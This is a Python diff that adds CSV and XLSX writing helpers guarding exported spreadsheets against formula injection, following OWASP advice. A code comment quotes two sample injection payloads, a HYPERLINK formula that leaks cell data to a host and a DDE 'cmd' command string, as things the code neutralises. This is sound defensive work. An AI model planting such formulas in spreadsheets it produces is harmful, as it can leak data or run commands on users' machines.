@@ -65,14 +65,59 @@ def _decode(data: bytes) -> str:
     raise ValidationFailed("Không nhận ra bảng mã của tệp CSV (hãy lưu dạng UTF-8).")
 
 
+# --- writing: files that cannot execute ---------------------------------------------------------------------
+#
+# A name typed as `=HYPERLINK("http://x/?"&B:B,"Xem")` or `+cmd|' /C calc'!A0` must reach a spreadsheet as the
+# text it is. Every CSV and XLSX phocap writes goes through these helpers: XLSX cells holding text are string
+# cells, never formulas (openpyxl turns any text starting with `=` into a formula unless told otherwise); CSV text
+# that a spreadsheet program would run gets a leading apostrophe (OWASP's advice for CSV injection).
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_safe(value: Any) -> Any:
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
+
+
+class _Echo:
+    def write(self, text: str) -> str:
+        return text
+
+
+_CSV = csv.writer(_Echo())
+
+
+def csv_line(row: Iterable[Any]) -> str:
+    """One CSV line (with its line end), each text cell made safe."""
+    return str(_CSV.writerow([csv_safe(v) for v in row]))
+
+
+def csv_bytes(rows: Iterable[Iterable[Any]], *, bom: bool = True) -> bytes:
+    """A whole CSV file in UTF-8; `bom`: a byte-order mark first, so spreadsheet programs read it as UTF-8."""
+    return ("\ufeff" if bom else "").encode() + "".join(csv_line(row) for row in rows).encode("utf-8")
+
+
+def as_text(cell: Any) -> Any:
+    """An openpyxl cell holding text is a string cell, whatever the text starts with."""
+    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
+        cell.data_type = "s"
+    return cell
+
+
 def xlsx_bytes(rows: Iterable[Iterable[Any]], *, sheet: str = "Sheet1") -> bytes:
     """An XLSX file of one sheet holding the rows, written row by row (memory stays flat for long lists)."""
     from openpyxl import Workbook  # only when a workbook is written, as calamine only when one is read
+    from openpyxl.cell import WriteOnlyCell
 
     book = Workbook(write_only=True)
     out_sheet = book.create_sheet(sheet)
     for row in rows:
-        out_sheet.append(list(row))
+        out_sheet.append(
+            [
+                as_text(WriteOnlyCell(out_sheet, value=v)) if isinstance(v, str) and v.startswith(FORMULA_STARTS) else v
+                for v in row
+            ]
+        )
     out = io.BytesIO()
     book.save(out)
     return out.getvalue()
